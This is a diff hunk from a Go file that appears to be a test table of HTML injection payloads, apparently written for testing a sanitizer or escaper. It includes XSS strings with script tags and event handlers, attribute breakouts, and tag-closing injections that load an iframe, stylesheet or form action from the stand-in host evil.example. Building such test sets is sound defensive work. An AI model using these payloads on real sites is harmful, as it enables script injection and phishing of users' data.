@@ -44,7 +44,7 @@ var attacks = []attack{
 	{kind: "script", text: around("<script>alert(1)</script>", `<img src=x onerror=alert(1)><svg/onload=alert(2)>`)},
 	{kind: "attribute", text: around(`"'><a href=x onclick=alert(1)>`, `" onmouseover="alert(1)" style='x:expression(1)' x='`)},
 	{kind: "closing", text: oneOfFour(
-		`</title></bdi></p></td></table><h1>%s</h1><iframe src=//evil.example>`, `</option></select></form><form action=//evil.example><input name=jeton> %s`,
+		`</title></bdi></p></td></table><h1>%s</h1><iframe src=//evil.example>`, `</option></select><form action=//evil.example><input> %s`,
 		`--><!--[if mso]><script>%s</script><![endif]--><!--`, `</body></html> %s <link rel=stylesheet href=//evil.example>`)},
 	{kind: "style", text: around("", `</style><style>*{display:none}</style>;background:url(//evil.example/a);}body{color:red`)},
 	{kind: "entities", text: around("&lt;b&gt;&#x3c;script&#x3e;&amp;amp; ", " &nbsp;&shy;&rlm;&#0;&NewLine;")},
